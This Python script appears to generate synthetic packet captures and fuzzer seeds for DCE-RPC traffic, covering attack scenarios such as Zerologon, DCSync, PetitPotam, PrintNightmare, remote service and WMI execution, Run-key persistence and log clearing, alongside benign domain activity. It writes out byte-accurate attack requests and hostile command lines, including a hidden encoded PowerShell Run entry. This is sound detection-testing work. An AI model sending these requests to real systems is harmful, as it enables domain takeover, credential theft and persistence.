#!/usr/bin/python3
# SPDX-License-Identifier: MIT
"""rpc_exchange.py SCENARIO OUT.pcap | --seeds DIR: DCE-RPC conversations over TCP, both ends made here.

What no packaged server answers (WMI, DCOM, replication, printing, event logs) is built with the NDR structures of
python3-impacket, of which the arguments are byte for byte what its tools send. Answers hold what a Windows server's
would in form: right lengths, handles and return values. Needs /usr/bin/python3 and python3-impacket.
"""
import os
import random
import struct
import sys

from impacket.dcerpc.v5 import atsvc, drsuapi, even, lsad, nrpc, rprn, rrp, samr, scmr, tsch
from impacket.dcerpc.v5.dtypes import NULL
from impacket.uuid import string_to_bin, uuidtup_to_bin

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from capture_io import Writer, checksum  # noqa: E402

NDR = uuidtup_to_bin(("8a885d04-1ceb-11c9-9fe8-08002b104860", "2.0"))
EPM = ("e1af8308-5d1f-11c9-91a4-08002b14a0fa", "3.0")
EFS = ("df1941c5-fe89-4e79-bf10-463657acf44d", "1.0")
FSRVP = ("a8e0653c-2744-4389-a61d-7373df8b2292", "1.0")
DFS = ("4fc742e0-4a10-11cf-8273-00aa004ae673", "3.0")
EVEN6 = ("f6beaff7-1e19-4fbb-9f8f-b89e2018337c", "1.0")
BACKUP = ("3dde7c30-165d-11d1-ab8f-00805f14db40", "1.0")
ACTIVATOR = ("000001a0-0000-0000-c000-000000000046", "0.0")
REMUNKNOWN2 = ("00000143-0000-0000-c000-000000000046", "0.0")
WBEM_LOGIN = ("f309ad18-d86a-11d0-a075-00c04fb68820", "0.0")
WBEM_SERVICES = ("9556dc99-828c-11cf-a37e-00aa003240c7", "0.0")
DISPATCH = ("00020400-0000-0000-c000-000000000046", "0.0")
SVCCTL = ("367abb81-9844-35f1-ad32-98f038001003", "2.0")
NONE, NTLM, KERBEROS, SPNEGO, NETLOGON = 0, 10, 16, 9, 68
CONNECT, INTEGRITY, PRIVACY = 2, 5, 6
HANDLE = bytes(range(1, 21))
PRIVATE = random.Random(1)


def noise(size):
    return bytes(PRIVATE.randrange(256) for _ in range(size))


class Capture:
    """One pcap; the clock is moved by who speaks."""

    def __init__(self, path, start=1795600000):
        self.writer = Writer(path)
        self.now = start * 10**9
        self.port = 49700

    def wait(self, seconds):
        self.now += int(seconds * 10**9)

    def connect(self, client, server, port):
        self.port += 1
        return Connection(self, client, server, self.port, port)


class Connection:
    """A TCP connection with its handshake; say() sends one segment or more in one direction."""

    def __init__(self, capture, client, server, sport, dport):
        self.capture, self.ends, self.ports = capture, (client, server), (sport, dport)
        self.seq = [1000, 5000]
        self._segment(0, 0x02, b"")
        self.seq[0] += 1
        self._segment(1, 0x12, b"")
        self.seq[1] += 1
        self._segment(0, 0x10, b"")

    def _segment(self, side, flags, data):
        src, dst = (bytes(map(int, self.ends[s].split("."))) for s in (side, 1 - side))
        acked = 0 if flags == 0x02 else self.seq[1 - side]
        tcp = struct.pack(">HHIIBBHHH", self.ports[side], self.ports[1 - side], self.seq[side], acked, 0x50, flags,
                          64240, 0, 0) + data
        pseudo = src + dst + struct.pack(">BBH", 0, 6, len(tcp))
        tcp = tcp[:16] + struct.pack(">H", checksum(pseudo + tcp)) + tcp[18:]
        head = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, 6, 0) + src + dst
        head = head[:10] + struct.pack(">H", checksum(head)) + head[12:]
        frame = b"\x02\x00" + dst + b"\x02\x00" + src + b"\x08\x00" + head + tcp
        self.capture.writer.write(self.capture.now, frame, len(frame))
        self.capture.now += 300_000

    def say(self, side, data):
        for at in range(0, len(data), 1400):
            piece = data[at:at + 1400]
            self._segment(side, 0x18, piece)
            self.seq[side] += len(piece)

    def close(self):
        for side in (0, 1):
            self._segment(side, 0x11, b"")
            self.seq[side] += 1
        self._segment(0, 0x10, b"")


def pdu(kind, call, body, auth=NONE, level=0, token=16, flags=3):
    pad = -len(body) % 16 if auth else 0
    tail = struct.pack("<BBBBI", auth, level, pad, 0, 1) + noise(token) if auth else b""
    return struct.pack("<BBBBIHHI", 5, 0, kind, flags, 0x10, 16 + len(body) + pad + len(tail), token if auth else 0,
                       call) + body + bytes(pad) + tail


class Rpc:
    """An association over a connection."""

    def __init__(self, capture, client, server, port, interface=None, auth=NONE, level=0):
        self.wire = capture.connect(client, server, port)
        self.auth, self.level, self.call, self.context = auth, level, 0, -1
        if interface:
            self.bind(interface)

    def bind(self, interface):
        self.call, self.context = self.call + 1, self.context + 1
        first = self.context == 0
        body = struct.pack("<HHIB3xHBx", 5840, 5840, 0, 1, self.context, 1) + uuidtup_to_bin(interface) + NDR
        self.wire.say(0, pdu(11 if first else 14, self.call, body, self.auth, self.level))
        address = b"135\0" if first else b""
        body = struct.pack("<HHIH", 5840, 5840, 77, len(address)) + address
        body += bytes(-len(body) % 4) + struct.pack("<B3xHH", 1, 0, 0) + NDR
        self.wire.say(1, pdu(12 if first else 15, self.call, body, self.auth, self.level))

    def ask(self, opnum, stub, answer=b"\0\0\0\0", fault=None):
        self.call += 1
        if self.level == PRIVACY:
            stub, answer = noise(len(stub)), noise(len(answer))
        self.wire.say(0, pdu(0, self.call, struct.pack("<IHH", len(stub), self.context, opnum) + stub, self.auth,
                             self.level))
        if fault is not None:
            self.wire.say(1, pdu(3, self.call, struct.pack("<IHHII", 32, self.context, 0, fault, 0)))
            return
        self.wire.say(1, pdu(2, self.call, struct.pack("<IHH", len(answer), self.context, 0) + answer, self.auth,
                             self.level))

    def request(self, structure, answer=b"\0\0\0\0", fault=None):
        """A request of one of impacket's structures."""
        self.ask(structure.opnum, structure.getData(), answer, fault)

    def close(self):
        self.wire.close()


# ---- arguments ----

def wide(text):
    """A conformant and varying string."""
    data = (text + "\0").encode("utf-16-le")
    return struct.pack("<III", len(text) + 1, 0, len(text) + 1) + data + bytes(-len(data) % 4)


def this():
    """ORPCTHIS without extensions."""
    return struct.pack("<HHII", 5, 7, 0, 0) + noise(16) + struct.pack("<I", 0)


def bstr(text):
    data = text.encode("utf-16-le")
    return struct.pack("<IIII", 0x72657355, len(text), len(data), len(text)) + data + bytes(-len(data) % 4)


def activation(clsid):
    """The arguments of RemoteCreateInstance, as far as the class is concerned (MS-DCOM 2.2.22)."""
    serial = bytes.fromhex("01100800cccccccc")
    properties = [(0x1AB, string_to_bin(clsid) + struct.pack("<IIIII", 4, 0, 0, 1, 0) + bytes(24)), (0x1A5, bytes(16))]
    blobs, classes, sizes = b"", b"", b""
    for number, data in properties:
        blob = serial + struct.pack("<II", len(data), 0) + data
        blob += bytes(-len(blob) % 8)
        classes += struct.pack("<I", number) + bytes.fromhex("00000000c000000000000046")
        sizes += struct.pack("<I", len(blob))
        blobs += blob
    count = len(properties)
    custom = struct.pack("<IIII", 0, 2, 0, count) + bytes(16) + struct.pack("<III", 1, 2, 0)
    custom += struct.pack("<I", count) + classes + struct.pack("<I", count) + sizes
    size = 16 + 4 + len(custom)
    size += -size % 8
    custom = struct.pack("<II", size + len(blobs), size) + custom[4:]
    header = serial + struct.pack("<II", len(custom), 0) + custom
    header += bytes(-len(header) % 8)
    blob = struct.pack("<II", len(header) + len(blobs), 0) + header + blobs
    objref = b"MEOW" + struct.pack("<I", 4) + string_to_bin("000001A2-0000-0000-C000-000000000046")
    objref += string_to_bin("00000338-0000-0000-C000-000000000046") + struct.pack("<II", 0, len(blob)) + blob
    return this() + struct.pack("<IIII", 0, 1, len(objref), len(objref)) + objref


def tower(interface, port, address):
    uuid, version = interface[0], int(interface[1].split(".")[0])
    floors = struct.pack("<H", 5)
    for left, right in ((b"\x0d" + string_to_bin(uuid) + struct.pack("<H", version), b"\0\0"),
                        (b"\x0d" + NDR[:18], b"\0\0"), (b"\x0b", b"\0\0"), (b"\x07", struct.pack(">H", port)),
                        (b"\x09", bytes(map(int, address.split("."))))):
        floors += struct.pack("<H", len(left)) + left + struct.pack("<H", len(right)) + right
    data = struct.pack("<II", len(floors), len(floors)) + floors
    return data + bytes(-len(data) % 4)


def mapped(capture, client, server, interface, port):
    """Asks the endpoint mapper where an interface listens."""
    rpc = Rpc(capture, client, server, 135, EPM)
    asked = struct.pack("<II", 1, 0) + bytes(16) + struct.pack("<I", 2) + tower(interface, 0, "0.0.0.0") + bytes(20)
    rpc.ask(3, asked + struct.pack("<I", 4), HANDLE + struct.pack("<IIIII", 1, 4, 0, 1, 3) +
            tower(interface, port, server) + bytes(4))
    rpc.close()


def filled(structure, **fields):
    for name, value in fields.items():
        structure[name] = value
    return structure


def create_service(name, command):
    return filled(scmr.RCreateServiceW(), hSCManager=HANDLE, lpServiceName=name + "\0", lpDisplayName=name + "\0",
                  dwDesiredAccess=0xF01FF, dwServiceType=0x10, dwStartType=3, dwErrorControl=0,
                  lpBinaryPathName=command + "\0", lpdwTagId=NULL, lpLoadOrderGroup=NULL, lpDependencies=NULL,
                  dwDependSize=0, lpServiceStartName=NULL, lpPassword=NULL, dwPwSize=0)


def open_manager(access=0xF003F):
    return filled(scmr.ROpenSCManagerW(), lpMachineName="DUMMY\0", lpDatabaseName="ServicesActive\0",
                  dwDesiredAccess=access)


SCENARIOS = {}


def scenario(function):
    SCENARIOS[function.__name__] = function
    return function


CLIENT, OTHER, SERVER, CONTROLLER = "10.20.1.10", "10.20.1.11", "10.20.2.20", "10.20.2.21"
DRSUAPI = ("e3514235-4b06-11d1-ab04-00c04fc2dcd2", "4.0")
OBJECT = HANDLE + bytes(4)  # a handle and success


@scenario
def remote_service(capture):
    """A service is made that runs a command line, started and deleted again (MS-SCMR over TCP)."""
    mapped(capture, CLIENT, SERVER, SVCCTL, 49671)
    rpc = Rpc(capture, CLIENT, SERVER, 49671, SVCCTL, NTLM, INTEGRITY)
    rpc.request(open_manager(), OBJECT)
    service = bytes(range(31, 51))
    rpc.request(create_service("BTOBTO", "%COMSPEC% /Q /c echo whoami ^> \\\\127.0.0.1\\C$\\__output 2^>^&1"),
                bytes(4) + service + bytes(4))
    rpc.request(filled(scmr.RStartServiceW(), hService=service, argc=0, argv=NULL), struct.pack("<I", 1053))
    rpc.request(filled(scmr.RDeleteService(), hService=service))
    rpc.request(filled(scmr.RCloseServiceHandle(), hSCObject=service), bytes(24))
    rpc.close()


@scenario
def scheduled_task(capture):
    """A task is registered, run and deleted (MS-TSCH, as atexec does; over TCP and sealed)."""
    interface = ("86d35949-83c9-4044-b424-db363231fd0c", "1.0")
    mapped(capture, CLIENT, SERVER, interface, 49672)
    rpc = Rpc(capture, CLIENT, SERVER, 49672, interface, NTLM, PRIVACY)
    xml = "<Task><Actions><Exec><Command>cmd.exe</Command><Arguments>/C dir</Arguments></Exec></Actions></Task>\0"
    rpc.request(filled(tsch.SchRpcRegisterTask(), path="\\bcdefgh\0", xml=xml, flags=6, sddl=NULL, logonType=0,
                       cCreds=0, pCreds=NULL), bytes(64))
    rpc.request(filled(tsch.SchRpcRun(), path="\\bcdefgh\0", cArgs=0, pArgs=NULL, flags=0, sessionId=0, user=NULL),
                bytes(24))
    capture.wait(2)
    rpc.request(filled(tsch.SchRpcDelete(), path="\\bcdefgh\0", flags=0))
    rpc.close()


def wmi(capture, client, level, calls):
    """Activation, log-in to the namespace, then calls of IWbemServices: (opnum, stub, length of the answer)."""
    rpc = Rpc(capture, client, SERVER, 135, ACTIVATOR, NTLM, level)
    rpc.ask(4, activation("8BC3F05E-D86B-11D0-A075-00C04FB68820"), bytes(1064))
    rpc.close()
    rpc = Rpc(capture, client, SERVER, 49673, WBEM_LOGIN, NTLM, level)
    rpc.ask(6, this() + struct.pack("<I", 0x20000) + wide("//./root/cimv2") + bytes(12), bytes(196))
    rpc.bind(WBEM_SERVICES)
    for opnum, stub, answer in calls:
        rpc.ask(opnum, stub, bytes(answer))
    rpc.close()


def create_process(command):
    """The arguments of Win32_Process.Create: the class of its parameters, and an instance of it."""
    head = this() + bstr("Win32_Process") + bstr("Create") + bytes(12)
    values = b"__PARAMETERS\0\0" + command.encode() + b"\0"
    return head + b"__PARAMETERS\0\0abstract\0" + bytes(1500) + values + bytes(250)


@scenario
def wmi_exec(capture):
    """A program is run through WMI, in the clear (packet level), and another sealed (MS-WMI)."""
    wmi(capture, CLIENT, 4, [(6, this() + bstr("Win32_Process") + bytes(16), 20664),
                             (24, create_process("cmd.exe /Q /c dir 1> \\\\127.0.0.1\\ADMIN$\\__1 2>&1"), 1160)])
    capture.wait(900)
    wmi(capture, "10.20.1.11", PRIVACY, [(6, this() + bstr("Win32_Process") + bytes(16), 20664),
                                        (24, create_process("ipconfig"), 1160)])


@scenario
def dcom_exec(capture):
    """MMC20.Application is made on another host and runs a program there (MS-DCOM, MS-OAUT)."""
    rpc = Rpc(capture, CLIENT, SERVER, 135, ACTIVATOR, SPNEGO, CONNECT)
    rpc.ask(4, activation("49B2791A-B1AE-4C90-9B8E-E860BA07F889"), bytes(1040))
    rpc.close()
    rpc = Rpc(capture, CLIENT, SERVER, 49674, REMUNKNOWN2, SPNEGO, INTEGRITY)
    rpc.ask(3, this() + noise(16) + struct.pack("<IHxxI", 1, 1, 1) + string_to_bin(DISPATCH[0]), bytes(68))
    rpc.bind(DISPATCH)
    rpc.ask(5, this() + bytes(16) + struct.pack("<II", 1, 0x20000) + wide("ExecuteShellCommand") + bytes(8), bytes(20))
    rpc.ask(6, this() + struct.pack("<I", 54) + bytes(16) + struct.pack("<III", 0x409, 1, 0x20004) + bytes(24) +
            bstr("C:\\Windows\\System32\\cmd.exe") + bstr("/c calc"), bytes(120))
    rpc.close()


def challenge(computer, client):
    return filled(nrpc.NetrServerReqChallenge(), PrimaryName=NULL, ComputerName=computer + "\0",
                  ClientChallenge=client)


def authenticate(computer, credential):
    return filled(nrpc.NetrServerAuthenticate3(), PrimaryName=NULL, AccountName=computer + "$\0", SecureChannelType=6,
                  ComputerName=computer + "\0", ClientCredential=credential, NegotiateFlags=0x212FFFFF)


@scenario
def zerologon(capture):
    """Credentials of zeros until one is accepted, then the password is changed (CVE-2020-1472)."""
    netlogon = ("12345678-1234-abcd-ef00-01234567cffb", "1.0")
    mapped(capture, CLIENT, CONTROLLER, netlogon, 49675)
    rpc = Rpc(capture, CLIENT, CONTROLLER, 49675, netlogon)
    for attempt in range(40):
        rpc.request(challenge("DC1", bytes(8)), noise(8) + bytes(4))
        status = 0 if attempt == 39 else 0xC0000022
        rpc.request(authenticate("DC1", bytes(8)), bytes(8) + struct.pack("<III", 0x212FFFFF, 0, status))
    rpc.ask(30, struct.pack("<I", 0) + wide("DC1$") + struct.pack("<I", 6) + wide("DC1") + bytes(528),
            bytes(12) + bytes(4))
    rpc.close()


def replication(capture, client, server, operations, auth=SPNEGO):
    mapped(capture, client, server, DRSUAPI, 49676)
    rpc = Rpc(capture, client, server, 49676, DRSUAPI, auth, PRIVACY)
    for opnum, stub, answer in operations:
        rpc.ask(opnum, bytes(stub), bytes(answer))
    rpc.close()


@scenario
def dcsync(capture):
    """An account is looked up and replicated by a host that is no domain controller (MS-DRSR)."""
    replication(capture, CLIENT, CONTROLLER, [(0, 136, 84), (16, 86, 1092), (12, 104, 184), (3, 324, 5396), (1, 20, 24)],
                NTLM)


@scenario
def dcshadow(capture):
    """A host has a controller replicate from it, is asked, and takes itself away again."""
    replication(capture, CLIENT, CONTROLLER, [(0, 136, 84), (5, 400, 4)])
    replication(capture, CONTROLLER, CLIENT, [(0, 136, 84), (3, 324, 2000)])
    replication(capture, CLIENT, CONTROLLER, [(0, 136, 84), (6, 300, 4), (1, 20, 24)])


@scenario
def coercion(capture):
    """PetitPotam: the server is sent to the caller's host and goes there; then PrinterBug."""
    rpc = Rpc(capture, CLIENT, CONTROLLER, 49677, EFS, NTLM, INTEGRITY)
    rpc.ask(0, wide("\\\\10.20.1.13\\test\\Settings.ini") + bytes(4), bytes(20) + struct.pack("<I", 53))
    capture.connect(CONTROLLER, "10.20.1.13", 445).close()
    rpc.close()
    capture.wait(1000)
    rpc = Rpc(capture, CLIENT, SERVER, 49678, ("12345678-1234-abcd-ef00-0123456789ab", "1.0"), NTLM, CONNECT)
    rpc.ask(1, struct.pack("<I", 1) + wide("\\\\10.20.2.20") + bytes(16), OBJECT)
    rpc.ask(65, HANDLE + struct.pack("<III", 0x100, 0, 1) + wide("\\\\10.20.1.10") + bytes(8),
            struct.pack("<I", 1722))
    capture.connect(SERVER, CLIENT, 445).close()
    rpc.close()


def driver(config):
    """The arguments of RpcAddPrinterDriverEx with DRIVER_INFO_2."""
    info = struct.pack("<IIIIII", 3, 1, 2, 3, 4, 5)
    for text in ("1234", "Windows x64", "C:\\Windows\\System32\\DriverStore\\UNIDRV.DLL", config,
                 "C:\\Windows\\System32\\winhttp.dll"):
        info += wide(text)
    return struct.pack("<I", 1) + wide("\\\\10.20.2.20") + struct.pack("<III", 2, 2, 1) + info + struct.pack("<I", 0x8014)


@scenario
def print_nightmare(capture):
    """A printer driver is installed from the caller's share, as by the published exploit (CVE-2021-1675)."""
    rpc = Rpc(capture, CLIENT, SERVER, 49678, ("12345678-1234-abcd-ef00-0123456789ab", "1.0"), NTLM, CONNECT)
    rpc.ask(89, driver("\\\\10.20.1.10\\smb\\addCube.dll"), bytes(4))
    capture.connect(SERVER, CLIENT, 445).close()
    for number in (1, 2):
        rpc.ask(89, driver(f"C:\\Windows\\System32\\spool\\drivers\\x64\\3\\old\\{number}\\addCube.dll"),
                struct.pack("<I", 2))
    rpc.close()


def winreg(capture, client=CLIENT):
    rpc = Rpc(capture, client, SERVER, 49679, ("338cd001-2244-31f1-aaaa-900038001003", "1.0"), NTLM, INTEGRITY)
    rpc.ask(2, struct.pack("<II", 0, 0x02000000), OBJECT)
    return rpc


def open_key(name, handle=HANDLE):
    return 15, handle + counted(name) + struct.pack("<II", 0, 0x20019), OBJECT


def counted(text):
    """RRP_UNICODE_STRING, with its NUL, and its characters."""
    size = 2 * len(text) + 2
    return struct.pack("<HHI", size, size, 0x20000) + wide(text)


@scenario
def remote_registry(capture):
    """A value that starts a program at log-in is set (MS-RRP)."""
    rpc = winreg(capture)
    rpc.ask(*open_key("SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run"))
    data = "powershell.exe -nop -w hidden -enc SQBFAFgA\0".encode("utf-16-le")
    rpc.ask(22, HANDLE + counted("Updater") + struct.pack("<II", 1, len(data)) + data + struct.pack("<I", len(data)))
    rpc.close()


@scenario
def secrets_rpc(capture):
    """The key of a host's secrets is read and SAM saved (secretsdump); another asks for the domain's backup key."""
    rpc = winreg(capture)
    for part in ("JD", "Skew1", "GBG", "Data"):
        rpc.ask(*open_key("SYSTEM\\CurrentControlSet\\Control\\Lsa\\" + part))
    rpc.ask(6, HANDLE + counted("SAM") + struct.pack("<II", 0, 0) + bytes(16), HANDLE + struct.pack("<II", 0, 0))
    rpc.ask(20, HANDLE + counted("..\\Temp\\xYzAbCdE.tmp") + struct.pack("<I", 0))
    rpc.close()
    rpc = Rpc(capture, "10.20.1.11", CONTROLLER, 49680, ("12345778-1234-abcd-ef00-0123456789ab", "0.0"), NTLM, INTEGRITY)
    rpc.request(filled(lsad.LsarRetrievePrivateData(), PolicyHandle=HANDLE, KeyName="G$BCKUPKEY_PREFERRED",
                       EncryptedData=NULL), bytes(60))
    rpc.close()


def sam(capture, client):
    return Rpc(capture, client, CONTROLLER, 49681, ("12345778-1234-abcd-ef00-0123456789ac", "1.0"), NTLM, INTEGRITY)


def lookup(*names):
    request = filled(samr.SamrLookupNamesInDomain(), DomainHandle=HANDLE, Count=len(names))
    for name in names:
        entry = samr.RPC_UNICODE_STRING()
        entry["Data"] = name
        request["Names"].append(entry)
    return request


@scenario
def account_tamper(capture):
    """The password of a controller's account is set by another host, and a hash is set (MS-SAMR)."""
    rpc = sam(capture, CLIENT)
    rpc.request(lookup("DC1$"), bytes(32))
    rpc.ask(34, HANDLE + struct.pack("<II", 0xF07FF, 1000), OBJECT)
    rpc.ask(58, HANDLE + struct.pack("<HH", 26, 26) + bytes(532))
    rpc.ask(34, HANDLE + struct.pack("<II", 0xF07FF, 1105), OBJECT)
    rpc.ask(37, HANDLE + struct.pack("<HH", 18, 18) + bytes(40))
    rpc.close()


@scenario
def domain_enumeration(capture):
    """Users, groups, members of Domain Admins and sessions are asked for; another host lists all remote services."""
    rpc = sam(capture, CLIENT)
    rpc.ask(13, HANDLE + struct.pack("<III", 0, 0x10, 0xFFFF), bytes(200))
    rpc.ask(11, HANDLE + struct.pack("<II", 0, 0xFFFF), bytes(200))
    rpc.request(lookup("Domain Admins"), bytes(32))
    rpc.ask(19, HANDLE + struct.pack("<II", 0x10, 512), OBJECT)
    rpc.ask(25, HANDLE, bytes(40))
    rpc.close()
    rpc = Rpc(capture, "10.20.1.11", SERVER, 135, EPM)
    rpc.ask(2, struct.pack("<IIIII", 0, 0, 0, 1, 0) + bytes(16) + struct.pack("<I", 500), HANDLE + bytes(600))
    rpc.close()


@scenario
def share_enumeration(capture):
    """One host asks six for their shares and sessions (MS-SRVS); another looks at the shares of its file server."""
    interface = ("4b324fc8-1670-01d3-1278-5a47bf6ee188", "3.0")
    name = struct.pack("<I", 0x20000)
    for last in range(20, 26):
        server = f"10.20.2.{last}"
        rpc = Rpc(capture, CLIENT, server, 49690, interface, NTLM, INTEGRITY)
        rpc.ask(15, name + wide(server) + struct.pack("<IIIIII", 1, 1, 0x20004, 0, 0, 0xFFFFFFFF), bytes(120))
        rpc.ask(12, name + wide(server) + struct.pack("<IIIIIII", 0, 0, 10, 10, 0x20008, 0, 0), bytes(80))
        rpc.close()
        capture.wait(4)
    rpc = Rpc(capture, "10.20.1.11", SERVER, 49690, interface, NTLM, INTEGRITY)
    rpc.ask(15, name + wide(SERVER) + struct.pack("<IIIIII", 1, 1, 0x20004, 0, 0, 0xFFFFFFFF), bytes(120))
    rpc.close()


def manager_opened(capture, client, server, access, status=0):
    rpc = Rpc(capture, client, server, 49667, SVCCTL, NTLM, INTEGRITY)
    rpc.request(open_manager(access), HANDLE + struct.pack("<I", status))
    rpc.close()
    capture.wait(2)


@scenario
def rights_asked(capture):
    """One host opens the service managers of four others with every right, three refuse (Find-LocalAdminAccess); a console looks at nine,
    and an administrator opens two."""
    for last in range(20, 24):
        manager_opened(capture, CLIENT, f"10.20.2.{last}", 0xF003F, 0 if last == 21 else 5)
    for last in range(20, 29):
        manager_opened(capture, OTHER, f"10.20.2.{last}", 5)
    for last in (20, 21):
        manager_opened(capture, "10.20.1.12", f"10.20.2.{last}", 0xF003F)


@scenario
def log_clearing(capture):
    """The security log of another host is cleared (MS-EVEN6)."""
    rpc = Rpc(capture, CLIENT, SERVER, 49682, EVEN6, NTLM, INTEGRITY)
    rpc.ask(6, HANDLE + struct.pack("<I", 1) + wide("Security") + struct.pack("<II", 0, 0), bytes(16))
    rpc.close()


@scenario
def service_exploit(capture):
    """A path above its root, long enough to overflow; an upgrade of a controller that is none; both faulted or unanswered."""
    rpc = Rpc(capture, CLIENT, SERVER, 49668, ("4b324fc8-1670-01d3-1278-5a47bf6ee188", "3.0"))
    path = "\\" + "A" * 300 + "\\..\\..\\" + "B" * 60
    rpc.ask(31, struct.pack("<I", 0x20000) + wide("SRV2") + wide(path) + struct.pack("<I", 1000) + wide("\\") + struct.pack("<II", 1, 0),
            fault=0x1C010003)
    rpc.close()
    capture.wait(30)
    rpc = Rpc(capture, OTHER, SERVER, 49669, ("3919286a-b10c-11d0-9ba8-00c04fd92ef5", "0.0"))
    rpc.ask(9, noise(3200), fault=0x1C010003)
    rpc.close()


@scenario
def certificate_request(capture):
    """A certificate by the old interface, sealed and by NTLM; the same by another host in a call that is not signed."""
    interface = ("91ae6020-9e3c-11cf-8d7c-00aa00c091be", "0.0")
    rpc = Rpc(capture, CLIENT, SERVER, 49671, interface, NTLM, PRIVACY)
    rpc.ask(0, noise(1800), noise(2600))
    rpc.close()
    capture.wait(30)
    rpc = Rpc(capture, OTHER, SERVER, 49671, interface, NTLM, CONNECT)
    rpc.ask(0, noise(1800), noise(2600))
    rpc.close()


@scenario
def benign_rpc(capture):
    """What a domain does all day: log-ins of computers, look-ups, printers, inventory, replication of controllers."""
    netlogon, lsa = ("12345678-1234-abcd-ef00-01234567cffb", "1.0"), ("12345778-1234-abcd-ef00-0123456789ab", "0.0")
    spoolss, srvsvc = ("12345678-1234-abcd-ef00-0123456789ab", "1.0"), ("4b324fc8-1670-01d3-1278-5a47bf6ee188", "3.0")
    other = "10.20.2.22"
    replication(capture, other, CONTROLLER, [(0, 136, 84), (2, 200, 4)])
    for hour in range(6):
        for client in ("10.20.1.10", "10.20.1.11", "10.20.1.12"):
            mapped(capture, client, CONTROLLER, netlogon, 49675)
            rpc = Rpc(capture, client, CONTROLLER, 49675, netlogon)
            rpc.request(challenge("PC" + client[-2:], noise(8)), noise(8) + bytes(4))
            rpc.request(authenticate("PC" + client[-2:], noise(8)), bytes(16) + bytes(4))
            rpc.close()
            rpc = Rpc(capture, client, CONTROLLER, 49680, lsa, SPNEGO, INTEGRITY)
            for _ in range(4):
                rpc.ask(57, HANDLE + bytes(60), bytes(180))
            rpc.close()
            rpc = Rpc(capture, client, SERVER, 49678, spoolss, SPNEGO, CONNECT)
            rpc.ask(69, struct.pack("<I", 1) + wide("\\\\print\\office") + bytes(24), OBJECT)
            rpc.ask(65, HANDLE + struct.pack("<III", 0x100, 0, 1) + wide("\\\\PC" + client[-2:]) + bytes(8))
            rpc.close()
            capture.connect(SERVER, client, 445).close()
            rpc = Rpc(capture, client, SERVER, 49684, srvsvc, SPNEGO, CONNECT)
            rpc.ask(15, struct.pack("<I", 1) + wide("\\\\files") + bytes(24), bytes(300))
            rpc.close()
        replication(capture, CONTROLLER, other, [(0, 136, 84), (3, 324, 1200)])
        replication(capture, other, CONTROLLER, [(3, 324, 1200), (2, 200, 4)])
        wmi(capture, "10.20.1.13", PRIVACY, [(20, this() + bstr("WQL") + bstr("select * from Win32_Service"), 196),
                                            (6, this() + bstr("StdRegProv") + bytes(16), 9000),
                                            (24, this() + bstr("StdRegProv") + bstr("EnumKey") + bytes(600), 800)])
        capture.wait(3600)


def stubs():
    """(interface, opnum, stub) of each operation whose arguments are read: the fuzzer's seeds."""
    for message in (open_manager(), create_service("Xa", "cmd.exe /c dir")):
        yield SVCCTL, message.opnum, message.getData()
    yield ACTIVATOR, 4, activation("49B2791A-B1AE-4C90-9B8E-E860BA07F889")
    yield DISPATCH, 5, this() + bytes(16) + struct.pack("<II", 1, 0x20000) + wide("ExecuteShellCommand")
    yield WBEM_SERVICES, 24, this() + bstr("Win32_Process") + bstr("Create") + b"\0cmd.exe /c ipconfig\0"
    yield WBEM_SERVICES, 20, this() + bstr("WQL") + bstr("select * from Win32_Process")
    yield EFS, 0, wide("\\\\10.0.0.9\\a\\b") + bytes(4)
    yield FSRVP, 8, wide("\\\\10.0.0.9\\a")
    yield DFS, 13, wide("10.0.0.9") + wide("a") + bytes(4)
    job = filled(atsvc.NetrJobAdd(), ServerName=NULL)
    job["pAtInfo"]["Command"] = "calc\0"
    yield atsvc.MSRPC_UUID_ATSVC, 0, job.getData()
    task = filled(tsch.SchRpcRegisterTask(), path="\\Xa\0", flags=6, sddl=NULL, logonType=0, cCreds=0, pCreds=NULL,
                  xml="<Task><Actions><Exec><Command>cmd</Command><Arguments>/c dir</Arguments></Exec></Actions></Task>\0")
    yield tsch.MSRPC_UUID_TSCHS, 1, task.getData()
    names = filled(samr.SamrLookupNamesInDomain(), DomainHandle=HANDLE, Count=2)
    for name in ("krbtgt", "Administrator"):
        entry = samr.RPC_UNICODE_STRING()
        entry["Data"] = name
        names["Names"].append(entry)
    yield samr.MSRPC_UUID_SAMR, 17, names.getData()
    key = filled(rrp.BaseRegOpenKey(), lpSubKey="SYSTEM\\Select\0", dwOptions=0, samDesired=1)
    yield rrp.MSRPC_UUID_RRP, 15, key.getData()
    value = filled(rrp.BaseRegSetValue(), lpValueName="a\0", dwType=1,
                   lpData=list("calc\0".encode("utf-16-le")), cbData=10)
    yield rrp.MSRPC_UUID_RRP, 22, value.getData()
    proof = filled(nrpc.NetrServerAuthenticate3(), PrimaryName=NULL, AccountName="DC$\0", SecureChannelType=6,
                   ComputerName="DC\0", ClientCredential=bytes(8), NegotiateFlags=0x212FFFFF)
    yield nrpc.MSRPC_UUID_NRPC, 26, proof.getData()
    log = filled(even.ElfrOpenELW(), UNCServerName=NULL, ModuleName="Security", RegModuleName="", MajorVersion=1,
                 MinorVersion=1)
    yield even.MSRPC_UUID_EVEN, 7, log.getData()
    secret = filled(lsad.LsarRetrievePrivateData(), PolicyHandle=HANDLE, KeyName="DPAPI_SYSTEM", EncryptedData=NULL)
    yield lsad.MSRPC_UUID_LSAD, 43, secret.getData()
    watch = filled(rprn.RpcRemoteFindFirstPrinterChangeNotificationEx(), hPrinter=HANDLE, fdwFlags=0x100,
                   fdwOptions=0, pszLocalMachine="\\\\10.0.0.9\0", dwPrinterLocal=0, pOptions=NULL)
    yield rprn.MSRPC_UUID_RPRN, 65, watch.getData()


def write_seeds(folder):
    os.makedirs(folder, exist_ok=True)
    for number, (interface, opnum, stub) in enumerate(stubs()):
        uuid = interface if isinstance(interface, bytes) else uuidtup_to_bin(interface)
        body = struct.pack("<HHIB3xHBx", 5840, 5840, 0, 1, 0, 1) + uuid + NDR
        blob = pdu(11, 1, body) + pdu(0, 2, struct.pack("<IHH", len(stub), 0, opnum) + stub)
        with open(os.path.join(folder, f"call_{number:02d}"), "wb") as out:
            out.write(b"\0\0" + blob)
    # both sides in turn, in pieces of the length of a bind
    bind = pdu(11, 1, struct.pack("<HHIB3xHBx", 5840, 5840, 0, 1, 0, 1) + uuidtup_to_bin(EPM) + NDR)
    ack = pdu(12, 1, struct.pack("<HHIH", 5840, 5840, 77, 12) + b"0123456789ab" + b"\0\0" +
